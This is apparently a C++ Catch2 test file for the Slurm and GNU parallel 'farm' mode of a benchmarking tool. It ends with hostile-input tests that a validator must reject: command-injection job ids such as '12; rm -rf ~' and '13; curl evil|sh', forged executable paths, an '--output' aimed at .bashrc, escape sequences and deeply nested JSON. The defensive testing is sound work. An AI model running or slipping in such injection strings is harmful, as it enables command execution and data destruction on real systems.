// The pure side of bench on a farm (issue 16): what is said to Slurm and GNU parallel, what is
// read back from them, the experiment directory's files, and how rounds become a BenchResult.
#include <sys/stat.h>

#include <catch2/catch.hpp>

#include "farm/collect.hpp"
#include "farm/executors.hpp"
#include "farm/experiment.hpp"
#include "farm/round_task.hpp"
#include "farm/scheduler.hpp"
#include "temp_dir.hpp"
#include "util/fs.hpp"
#include "util/voice.hpp"

namespace {

// The reason a Result failed; what no error message holds when it did not fail.
template <class T>
std::string reason(const util::Result<T>& r) {
  return r ? "(no failure)" : r.error();
}

farm::Experiment experiment(int rounds = 3) {
  farm::Experiment e;
  e.executor = "slurm";
  e.executor_args = {"--partition=eda", "--exclusive"};
  e.edashim = "/usr/bin/edashim";
  e.version = "0.1.0";
  e.cwd = "/shared/work";
  e.spec.arms = {{"baseline", "baseline"}, {"jemalloc", "jemalloc"}};
  e.spec.command = {"yosys", "-q", "-s", "flow.ys"};
  e.spec.runs = rounds;
  e.spec.warmup = 0;
  e.fingerprint = farm::fingerprint(e, "");
  return e;
}

// A round file's text: the header, then one run per arm with the given wall times.
std::string round_text(const farm::Experiment& e, int round, const std::string& host, double base, double jem,
                       bool cut_last_line = false) {
  std::string text = farm::header_line(round, e.fingerprint, host, "AMD EPYC", "slurm 12_" + std::to_string(round));
  int order = round * 2;
  for (auto [arm, wall] : {std::pair{0, base}, std::pair{1, jem}}) {
    farm::RoundRun r;
    r.run.arm = arm;
    r.run.order = order++;
    r.run.ok = true;
    std::string log = R"({"tool":"yosys","host":")" + host + R"(","machine":{"cpu":"AMD EPYC"},"exit_code":0,"signal":null,"wall_s":)" +
                      std::to_string(wall) + R"(,"max_rss_kb":1000})";
    text += farm::run_line(r, log);
  }
  if (cut_last_line) text.resize(text.size() - 20);
  return text;
}

}  // namespace

TEST_CASE("Farm: Slurm's array index ranges, written and read", "[farm]") {
  CHECK(farm::index_ranges({0, 1, 2, 3, 4, 7, 9, 10}) == "0-4,7,9-10");
  CHECK(farm::index_ranges({5, 3, 3, 4}) == "3-5");
  CHECK(farm::index_ranges({}) == "");
  CHECK(farm::parse_index_ranges("2-4%2") == std::vector<int>{2, 3, 4});
  CHECK(farm::parse_index_ranges("3,5,7-8") == std::vector<int>{3, 5, 7, 8});
  CHECK(farm::parse_index_ranges("4") == std::vector<int>{4});
  CHECK(farm::parse_index_ranges("x").empty());
  CHECK(farm::parse_index_ranges("5-2").empty());
}

TEST_CASE("Farm: sbatch gets one array task per round, and options edashim sets itself are refused", "[farm]") {
  auto argv = farm::sbatch_argv("/shared/b1", {0, 1, 2, 5}, {"--partition=eda", "--exclusive"});
  CHECK(argv == std::vector<std::string>{"sbatch", "--parsable", "--job-name=edashim-bench", "--output=/shared/b1/slurm/%A_%a.out",
                                         "--partition=eda", "--exclusive", "--array=0-2,5", "/shared/b1/task.sh"});
  CHECK_FALSE(farm::reserved_slurm_option({"--partition=eda", "--exclusive", "--constraint=epyc", "-A", "proj"}));
  for (const char* bad : {"--array=0-9", "-a", "-a1-3", "--output=x", "-o", "--error=y", "--wrap=ls", "--parsable"})
    CHECK(farm::reserved_slurm_option({bad}));
}

TEST_CASE("Farm: GNU parallel runs one job per round, on this machine unless hosts are given", "[farm]") {
  auto local = farm::parallel_argv("/d", "/usr/bin/edashim", "ab12", {0, 1}, {}, "/d/parallel/joblog-1");
  CHECK(local == std::vector<std::string>{"parallel", "--will-cite", "-q", "--jobs", "1", "--joblog", "/d/parallel/joblog-1",
                                          "--sshlogin", ":", "/usr/bin/edashim", "bench", "round", "--fingerprint", "ab12",
                                          "/d", "{}", ":::", "0", "1"});
  auto remote = farm::parallel_argv("/d", "/usr/bin/edashim", "ab12", {3}, {"--sshlogin", "n1,n2"}, "/d/parallel/joblog-2");
  CHECK(std::count(remote.begin(), remote.end(), ":") == 0);
  CHECK(std::find(remote.begin(), remote.end(), "n1,n2") != remote.end());
}

TEST_CASE("Farm: scontrol's, sacct's and parallel's words on tasks", "[farm]") {
  std::string scontrol =
      "JobId=13 ArrayJobId=12 ArrayTaskId=0 JobName=edashim-bench JobState=COMPLETED Reason=None NodeList=node1\n"
      "JobId=14 ArrayJobId=12 ArrayTaskId=1 JobName=edashim-bench JobState=CANCELLED Reason=None NodeList=node2\n"
      "JobId=12 ArrayJobId=12 ArrayTaskId=2-4%2 JobName=edashim-bench JobState=PENDING Reason=JobArrayTaskLimit NodeList=(null)\n"
      "JobId=20 ArrayJobId=19 ArrayTaskId=0 JobState=RUNNING Reason=None NodeList=node3\n";
  auto s = farm::parse_scontrol(scontrol, "12");
  REQUIRE(s.size() == 5);
  CHECK(s[0].state == "COMPLETED");
  CHECK(s[0].node == "node1");
  CHECK_FALSE(s[0].active());
  CHECK(s[1].state == "CANCELLED");
  CHECK(s[4].state == "PENDING");
  CHECK(s[4].reason == "JobArrayTaskLimit");
  CHECK(s[4].node.empty());
  CHECK(s[4].active());
  auto a = farm::parse_sacct("12_0|COMPLETED|node1\n12_1|CANCELLED by 0|node2\n12_[2-3]|PENDING|None assigned\n12_4|OUT_OF_MEMORY|node1\n", "12");
  CHECK(a[1].state == "CANCELLED");
  CHECK(a[3].state == "PENDING");
  CHECK(a[4].state == "OUT_OF_MEMORY");
  auto j = farm::parse_joblog(
      "Seq\tHost\tStarttime\tJobRuntime\tSend\tReceive\tExitval\tSignal\tCommand\n"
      "1\t:\t1764640000.1\t2.0\t0\t0\t0\t0\t/usr/bin/edashim bench round /d 0\n"
      "2\tn2\t1764640002.1\t1.0\t0\t0\t0\t15\t/usr/bin/edashim bench round /d 1\n"
      "3\t:\t1764640003.1\t1.0\t0\t0\t1\t0\t/usr/bin/edashim bench round /d 2\n");
  CHECK(j[0].state == "COMPLETED");
  CHECK(j[1].state == "SIGNAL 15");
  CHECK(j[1].node == "n2");
  CHECK(j[2].state == "EXITED 1");
}

TEST_CASE("Farm: --slurm-args split as a shell splits words, nothing expanded", "[farm]") {
  std::string error;
  CHECK(*farm::shell_words(R"(--partition=eda  --constraint="epyc&avx2" --comment='a b' x\ y $HOME)") ==
        std::vector<std::string>{"--partition=eda", "--constraint=epyc&avx2", "--comment=a b", "x y", "$HOME"});
  CHECK(farm::shell_words("")->empty());
  error = reason(farm::shell_words("--comment='open"));
  CHECK(error.find("unclosed single quote") != std::string::npos);
}

TEST_CASE("Farm: an experiment reads back as written, and its fingerprint covers the command", "[farm]") {
  auto e = experiment();
  std::string error;
  auto back = farm::from_json(farm::to_json(e));
  REQUIRE(back);
  CHECK(back->spec.command == e.spec.command);
  CHECK(back->spec.arms[1].profile == "jemalloc");
  CHECK(back->executor_args == e.executor_args);
  CHECK(back->fingerprint == e.fingerprint);
  CHECK(farm::fingerprint(*back, "") == e.fingerprint);
  auto other = e;
  other.spec.command.back() = "other.ys";
  CHECK(farm::fingerprint(other, "") != e.fingerprint);
  CHECK(farm::fingerprint(e, "abc input") != e.fingerprint);
  error = reason(farm::from_json("{\"format\": 99}"));
  CHECK(error.find("format 99") != std::string::npos);
}

TEST_CASE("Farm: create copies profile files and inputs in, and refuses a directory that holds an experiment", "[farm]") {
  TempDir t;
  t.write("work/design.v", "module top; endmodule\n");
  t.write("work/lean.toml", "allocator = \"jemalloc\"\n");
  auto e = experiment();
  e.cwd = t.path + "/work";
  e.spec.arms[1].profile = "./lean.toml";
  e.spec.fresh_copy = {"design.v"};
  std::string error;
  auto made = farm::create(t.path + "/exp", e, {});
  REQUIRE(made);
  CHECK(made->own);
  CHECK(made->spec.arms[1].profile == t.path + "/exp/profiles/1-lean.toml");
  CHECK(util::read_file(made->spec.arms[1].profile) == "allocator = \"jemalloc\"\n");
  CHECK(made->spec.fresh_copy_from == t.path + "/exp/inputs");
  CHECK(util::read_file(t.path + "/exp/inputs/design.v") == "module top; endmodule\n");
  auto loaded = farm::load(t.path + "/exp", "0.1.0", {});
  REQUIRE(loaded);
  CHECK(loaded->fingerprint == made->fingerprint);
  CHECK(loaded->own);
  error = reason(farm::load(t.path + "/exp", "0.2.0", {}));
  CHECK(error.find("made by edashim 0.1.0 and this is edashim 0.2.0") != std::string::npos);
  error = reason(farm::create(t.path + "/exp", e, {}));
  CHECK(error.find("already holds an experiment") != std::string::npos);
}

TEST_CASE("Farm: a round's file: runs read back, a cut last line is dropped, another experiment's refused", "[farm]") {
  auto e = experiment();
  auto f = farm::parse_round(round_text(e, 1, "node1", 2.0, 1.5), 1, true, e.fingerprint);
  CHECK(f.complete);
  CHECK(f.host == "node1");
  CHECK(f.task == "slurm 12_1");
  REQUIRE(f.runs.size() == 2);
  CHECK(f.runs[1].run.arm == 1);
  CHECK(f.runs[1].run.record.wall_s == 1.5);
  CHECK(f.runs[1].run.record.host == "node1");
  auto cut = farm::parse_round(round_text(e, 1, "node1", 2.0, 1.5, true), 1, false, e.fingerprint);
  CHECK(cut.runs.size() == 1);
  auto alien = farm::parse_round(round_text(e, 1, "node1", 2.0, 1.5), 1, true, "another");
  CHECK_FALSE(alien.complete);
  CHECK(alien.error.find("another experiment") != std::string::npos);
  auto killed = farm::parse_round(farm::header_line(2, e.fingerprint, "n", "", "") +
                                      R"x({"error":"the task was terminated (SIGTERM)","terminated":true})x" "\n", 2, false, e.fingerprint);
  CHECK(killed.terminated);
}

TEST_CASE("Farm: a round's state from its file and its task", "[farm]") {
  auto e = experiment();
  auto done = farm::parse_round(round_text(e, 0, "node1", 2, 1), 0, true, e.fingerprint);
  auto part = farm::parse_round(round_text(e, 0, "node1", 2, 1), 0, false, e.fingerprint);
  farm::RoundFile failed;
  failed.error = "this node's edashim is version 0.0.9";
  farm::TaskState running{"RUNNING", "", "node1"}, pending{"PENDING", "Resources", ""}, cancelled{"CANCELLED", "", "node1"},
      oom{"OUT_OF_MEMORY", "", "node2"}, completed{"COMPLETED", "", "node1"};
  CHECK(farm::round_state(0, &done, &completed).state == "done");
  // A done round's detail is its file's alone: the same whatever Slurm says while the task exits.
  CHECK(farm::round_state(0, &done, &running).detail == farm::round_state(0, &done, &completed).detail);
  CHECK(farm::round_state(0, &done, &running).detail == "on node1, slurm 12_0");
  CHECK(farm::round_state(0, &done, nullptr).state == "done");
  CHECK(farm::round_state(0, &part, &running).state == "running");
  CHECK(farm::round_state(0, nullptr, &pending).state == "pending");
  CHECK(farm::round_state(0, nullptr, &pending).reason == "Resources");
  auto p = farm::round_state(0, &part, &oom);
  CHECK(p.state == "partial");
  CHECK(p.detail.find("2 run(s) before the task ended") != std::string::npos);
  CHECK(p.detail.find("OUT_OF_MEMORY") != std::string::npos);
  CHECK(farm::round_state(0, &failed, &completed).state == "failed");
  CHECK(farm::round_state(0, &failed, &completed).detail.find("version 0.0.9") != std::string::npos);
  auto m = farm::round_state(0, nullptr, &cancelled);
  CHECK(m.state == "missing");
  CHECK(m.detail.find("CANCELLED") != std::string::npos);
  CHECK(farm::round_state(0, nullptr, nullptr).detail == "never submitted");
  CHECK(farm::round_state(0, nullptr, &completed).detail.find("ended without writing the round") != std::string::npos);
}

TEST_CASE("Farm: only complete rounds enter the figures, in schedule order, and collect is repeatable", "[farm]") {
  auto e = experiment(4);
  std::vector<farm::RoundFile> files{
      farm::parse_round(round_text(e, 2, "node2", 3.0, 2.0), 2, true, e.fingerprint),
      farm::parse_round(round_text(e, 0, "node1", 2.0, 1.0), 0, true, e.fingerprint),
      farm::parse_round(round_text(e, 1, "node1", 2.0, 1.0), 1, false, e.fingerprint),  // partial
  };
  std::map<int, farm::TaskState> tasks{{1, {"NODE_FAIL", "", "node1"}}, {3, {"PENDING", "Priority", ""}}};
  auto c = farm::collect(e, files, tasks);
  REQUIRE(c.outcome.runs.size() == 4);
  CHECK(c.outcome.runs[0].round == 0);
  CHECK(c.outcome.runs[3].round == 2);
  CHECK(c.count["done"] == 2);
  CHECK(c.count["partial"] == 1);
  CHECK(c.count["pending"] == 1);
  CHECK(c.resubmittable == std::vector<int>{1});
  CHECK_FALSE(c.finished());
  CHECK(farm::progress_line(c, 4) == "4 rounds: 2 done, 1 pending (Priority), 1 partial");
  CHECK(c.outcome.machine == "2 host(s): AMD EPYC (2 rounds)");
  auto again = farm::collect(e, files, tasks);
  CHECK(again.outcome.runs.size() == c.outcome.runs.size());
  for (std::size_t i = 0; i < c.outcome.runs.size(); ++i) CHECK(again.outcome.runs[i].order == c.outcome.runs[i].order);
}

// Issue 24: an experiment directory is data another user may have written.

TEST_CASE("Farm: job ids are Slurm's or parallel's forms, anything else never reaches a command", "[farm][hostile]") {
  for (const char* ok : {"12", "12_3", "12_[3-5,7]", "12_[0-9%2]", "4294967295"}) CHECK(farm::valid_job_id("slurm", ok));
  for (const char* bad : {"", "12; rm -rf ~", "$(id)", "12 13", "-1", "12_", "12\n", "12_[3-5", "`id`", "12|x", "abc"})
    CHECK_FALSE(farm::valid_job_id("slurm", bad));
  CHECK(farm::valid_job_id("parallel", "4242"));
  for (const char* bad : {"0", "-1", "4242;id", "1 2", "", "1234567890"}) CHECK_FALSE(farm::valid_job_id("parallel", bad));
  CHECK_FALSE(farm::valid_job_id("sh", "12"));
  std::vector<farm::Submission> subs{{1, "slurm", "12", 0, 0, {0}},
                                     {2, "slurm", "13; curl evil|sh", 0, 0, {1}},
                                     {3, "parallel", "$(touch /tmp/x)", 0, 0, {2}},
                                     {4, "parallel", "4242", 0, 0, {3}}};
  CHECK(farm::cancel_hint(subs) == "scancel 12; kill 4242");
}

TEST_CASE("Farm: Slurm's task script runs the given edashim on the fingerprint, every word quoted", "[farm][hostile]") {
  auto script = farm::slurm_task_script("/shared/it's here", "/opt/edashim/bin/edashim", "ab12");
  CHECK(script.find("exec /opt/edashim/bin/edashim bench round --fingerprint ab12 '/shared/it'\\''s here' "
                    "\"$SLURM_ARRAY_TASK_ID\"\n") != std::string::npos);
}

TEST_CASE("Farm: executor arguments from experiment.json are checked as at submission", "[farm][hostile]") {
  CHECK(farm::executor_args_problem("slurm", {"--partition=eda", "--exclusive"}).empty());
  CHECK(farm::executor_args_problem("parallel", {"--sshlogin", "n1,n2"}).empty());
  CHECK(farm::executor_args_problem("slurm", {"--wrap=id"}).find("--wrap=id") != std::string::npos);
  CHECK(farm::executor_args_problem("slurm", {"--output=/home/v/.bashrc"}).find("leave it out") != std::string::npos);
  CHECK(farm::executor_args_problem("sh", {}).find("neither slurm nor parallel") != std::string::npos);
  CHECK(farm::executor_args_problem("parallel", {"--tag\x1b[2K"}).find("\\x1b") != std::string::npos);
}

TEST_CASE("Farm: a task runs this edashim (same inode) or one the user lists, never the file's word", "[farm][hostile]") {
  util::FileId self{1, 100}, other{1, 200};
  std::string error;
  auto same = farm::task_edashim("/opt/edashim/bin/edashim", self, self, "/opt/edashim/bin/edashim", {});
  REQUIRE(same);
  CHECK(*same == "/opt/edashim/bin/edashim");
  error = reason(farm::task_edashim("/home/mallory/evil2.sh", other, self, "/opt/edashim/bin/edashim", {}));
  CHECK(error.find("/home/mallory/evil2.sh") != std::string::npos);
  CHECK(error.find("refusing") != std::string::npos);
  CHECK_FALSE(farm::task_edashim("/home/mallory/evil2.sh", std::nullopt, self, "/x", {}));
  CHECK(farm::task_edashim("/site/edashim", other, self, "/x", {"/site/edashim"}));
  CHECK_FALSE(farm::task_edashim("edashim", self, self, "/x", {"edashim"}));  // relative: whatever PATH says
  auto escaped = farm::task_edashim("/x\x1b]0;", other, self, "/y", {});
  REQUIRE_FALSE(escaped);
  CHECK(escaped.error().find('\x1b') == std::string::npos);
}

TEST_CASE("Farm: nesting is bounded before parsing, and a hostile round line never crashes", "[farm][hostile]") {
  CHECK_FALSE(farm::nesting_exceeds(std::string(64, '[') + std::string(64, ']'), 64));
  CHECK(farm::nesting_exceeds(std::string(65, '['), 64));
  CHECK_FALSE(farm::nesting_exceeds("{\"a\":\"" + std::string(1000, '[') + "\"}", 64));  // in a string: text
  CHECK_FALSE(farm::nesting_exceeds(R"({"a":"\"[[[[[[[["})", 2));
  auto e = experiment();
  std::string deep = "{\"arm\":0,\"record\":" + std::string(200000, '[') + std::string(200000, ']') + "}\n";
  std::string text = round_text(e, 1, "node1", 2.0, 1.5) + deep + "{\"arm\":\"zero\",\"ok\":[]}\n";
  auto f = farm::parse_round(text, 1, true, e.fingerprint);
  CHECK(f.runs.size() == 2);  // the good lines still read
  CHECK_FALSE(f.complete);    // but a round with lines not ours is not counted
  CHECK(f.error.find("2 line(s)") != std::string::npos);
  auto typed = farm::parse_round("{\"round\":1,\"fingerprint\":\"" + e.fingerprint + "\",\"host\":5}\n", 1, true, e.fingerprint);
  CHECK_FALSE(typed.complete);
}

TEST_CASE("Farm: text from an experiment directory is printed with control characters escaped", "[farm][hostile]") {
  CHECK(farm::printable("node1") == "node1");
  CHECK(farm::printable("a\x1b[2Kb\rc\n") == "a\\x1b[2Kb\\x0dc\\x0a");
  CHECK(farm::printable("Zürich") == "Zürich");
}

TEST_CASE("Farm: load refuses an experiment whose fingerprint is not that of its contents", "[farm][hostile]") {
  TempDir t;
  t.write("work/lean.toml", "allocator = \"jemalloc\"\n");
  t.write("work/design.v", "module top; endmodule\n");
  auto e = experiment();
  e.cwd = t.path + "/work";
  e.spec.arms[1].profile = "./lean.toml";
  e.spec.fresh_copy = {"design.v"};
  std::string error, dir = t.path + "/exp";
  auto made = farm::create(dir, e, {});
  REQUIRE(made);
  REQUIRE(farm::load(dir, "0.1.0", {}));
  auto original = *util::read_file(farm::experiment_path(dir));

  auto forged = *made;
  forged.edashim = "/home/mallory/evil2.sh";  // the field changed, the fingerprint left as it was
  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), farm::to_json(forged), 0644));
  error = reason(farm::load(dir, "0.1.0", {}));
  CHECK(error.find("fingerprint") != std::string::npos);
  CHECK(error.find(dir + "/experiment.json") != std::string::npos);

  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), original, 0644));
  t.write("exp/profiles/1-lean.toml", "allocator = \"tcmalloc\"\n");  // a copied profile swapped
  error = reason(farm::load(dir, "0.1.0", {}));
  CHECK(error.find("fingerprint") != std::string::npos);
  t.write("exp/profiles/1-lean.toml", "allocator = \"jemalloc\"\n");
  REQUIRE(farm::load(dir, "0.1.0", {}));
  t.write("exp/inputs/design.v", "module evil; endmodule\n");
  CHECK_FALSE(farm::load(dir, "0.1.0", {}));
  t.write("exp/inputs/design.v", "module top; endmodule\n");

  // Consistent, but a profile outside the experiment: not its copy, whatever the fingerprint says.
  forged = *made;
  forged.spec.arms[1].profile = t.path + "/work/lean.toml";
  forged.fingerprint = farm::fingerprint(forged, *util::read_file(t.path + "/work/lean.toml"));
  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), farm::to_json(forged), 0644));
  error = reason(farm::load(dir, "0.1.0", {}));
  CHECK(error.find("not the experiment's own copy") != std::string::npos);

  // A 200000-deep experiment.json: refused, not a crash.
  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), std::string(200000, '[') + std::string(200000, ']'), 0644));
  error = reason(farm::load(dir, "0.1.0", {}));
  CHECK(error.find("nested deeper") != std::string::npos);
}

TEST_CASE("Farm: --dir must be new, or empty and the user's own under the one rule", "[farm][hostile]") {
  TempDir t;
  CHECK(farm::check_new_dir(t.path + "/new", {}).ok());
  util::make_dirs(t.path + "/empty", 0700);
  CHECK(farm::check_new_dir(t.path + "/empty", {}).ok());
  t.write("full/notes.txt", "x");
  CHECK(farm::check_new_dir(t.path + "/full", {}).error().find("is not empty") != std::string::npos);
  util::make_dirs(t.path + "/open", 0700);
  ::chmod((t.path + "/open").c_str(), 0777);
  auto why = farm::check_new_dir(t.path + "/open", {}).error();
  CHECK(why.find(t.path + "/open") != std::string::npos);
  CHECK(why.find("choose a new directory") != std::string::npos);
  // A directory made by create is 0700, whatever the umask.
  auto e = experiment();
  e.cwd = t.path;
  REQUIRE(farm::create(t.path + "/exp", e, {}));
  struct stat st;
  REQUIRE(::stat((t.path + "/exp").c_str(), &st) == 0);
  CHECK((st.st_mode & 0777) == 0700);
}

TEST_CASE("Farm: a round of another edashim's genuine experiment says which to install, a forged one gets no round",
          "[farm][hostile]") {
  TempDir t;
  t.write("work/design.v", "module top; endmodule\n");
  auto e = experiment();
  e.version = "0.0.1-other";  // made by another edashim: create fingerprints it as that one did
  e.cwd = t.path + "/work";
  std::string dir = t.path + "/exp";
  auto made = farm::create(dir, e, {});
  REQUIRE(made);
  bench::Previewer none = [](const std::string&, const std::vector<std::string>&, const std::vector<std::string>&) {
    return bench::ArmPreview{};
  };
  std::string said;
  CHECK(farm::run_round(dir, 0, made->fingerprint, {}, none, util::Voice("edashim bench round", &said)) != 0);
  auto round = util::read_file(farm::round_path(dir, 0, false));
  REQUIRE(round);
  CHECK(round->find("install the same edashim on every node") != std::string::npos);

  auto forged = *made;
  forged.edashim = "/home/mallory/evil2.sh";  // the fingerprint left as it was
  REQUIRE(util::write_file_atomic(farm::experiment_path(dir), farm::to_json(forged), 0644));
  said.clear();
  CHECK(farm::run_round(dir, 1, made->fingerprint, {}, none, util::Voice("edashim bench round", &said)) != 0);
  CHECK_FALSE(util::exists(farm::round_path(dir, 1, false)));
  CHECK(said.find("was made by edashim 0.0.1-other") != std::string::npos);
}
